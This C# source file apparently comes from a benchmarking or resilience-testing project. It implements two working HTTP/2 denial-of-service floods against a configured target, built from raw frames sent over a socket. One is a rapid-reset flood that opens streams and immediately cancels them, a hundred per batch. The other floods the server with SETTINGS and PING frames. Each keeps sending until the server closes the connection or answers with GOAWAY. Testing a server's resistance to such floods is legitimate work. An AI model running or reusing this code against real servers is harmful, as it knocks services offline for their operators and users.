using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;

namespace OurWhats.Bench.Neighbours;

/// <summary>HTTP/2 connections that begin streams only to reset them, or only change settings and ping.</summary>
internal static class Http2Floods
{
    private const byte Headers = 1;
    private const byte Reset = 3;
    private const byte Settings = 4;
    private const byte Ping = 6;
    private const byte GoAway = 7;
    private const byte EndOfStreamAndHeaders = 5;

    private const int Together = 100;

    /// <summary>Noted for a GOAWAY: "enhance your calm".</summary>
    private const int SentAway = 420;

    public static Task ResetStreams(Target target, Tally tally, CancellationToken over)
    {
        var stream = 1;
        return Flood(target, tally, Add, over);

        void Add(List<byte> frames)
        {
            AddFrame(frames, Headers, EndOfStreamAndHeaders, stream, Get(target));
            AddFrame(frames, Reset, 0, stream, [0, 0, 0, 8]);
            stream += 2;
        }
    }

    public static Task SendSettings(Target target, Tally tally, CancellationToken over) =>
        Flood(target, tally, AddSettings, over);

    // A hundred frames at a time; what is answered is read, so that nothing stands in the way.
    private static async Task Flood(Target target, Tally tally, Action<List<byte>> add, CancellationToken over)
    {
        using Socket socket = new(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        await socket.ConnectAsync(target.Http2.Host, target.Http2.Port, over);
        List<byte> frames = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8];
        AddFrame(frames, Settings, 0, 0, []);
        var reading = Drain(socket, over);
        while (!reading.IsCompleted)
        {
            for (var i = 0; i < Together; i++) add(frames);
            await socket.SendAsync(frames.ToArray(), over);
            frames.Clear();
            for (var i = 0; i < Together; i++) tally.Note(200);
        }

        tally.Note(await reading ? SentAway : Tally.Closed);
    }

    private static async Task<bool> Drain(Socket socket, CancellationToken over)
    {
        await Task.Yield();
        var buffer = new byte[64 * 1024];
        var isSentAway = false;
        try
        {
            // A frame of its own mostly, sent last.
            for (int received; (received = await socket.ReceiveAsync(buffer, over)) > 0;)
                isSentAway = received >= 17 && buffer.AsSpan(0, received).IndexOf((ReadOnlySpan<byte>)[GoAway, 0, 0, 0, 0, 0]) >= 0;
        }
        catch (SocketException)
        {
            // Closed by force.
        }

        return isSentAway;
    }

    private static void AddSettings(List<byte> frames)
    {
        AddFrame(frames, Settings, 0, 0, [0, 4, 0, 1, 0, 0]);
        AddFrame(frames, Ping, 0, 0, new byte[8]);
    }

    private static void AddFrame(List<byte> frames, byte type, byte flags, int stream, ReadOnlySpan<byte> payload)
    {
        Span<byte> head = stackalloc byte[9];
        BinaryPrimitives.WriteInt32BigEndian(head, payload.Length << 8);
        (head[3], head[4]) = (type, flags);
        BinaryPrimitives.WriteInt32BigEndian(head[5..], stream);
        frames.AddRange(head);
        frames.AddRange(payload);
    }

    // Method GET, path /, scheme http from the static table; the authority and the cookie are literals without a name's index.
    private static byte[] Get(Target target) =>
    [
        0x82, 0x84, 0x86, .. Literal(":authority", target.Http2.Authority), .. Literal("cookie", "s=" + target.Session),
    ];

    private static byte[] Literal(string name, string value) =>
        [0, (byte)name.Length, .. Encoding.Latin1.GetBytes(name), (byte)value.Length, .. Encoding.Latin1.GetBytes(value)];
}
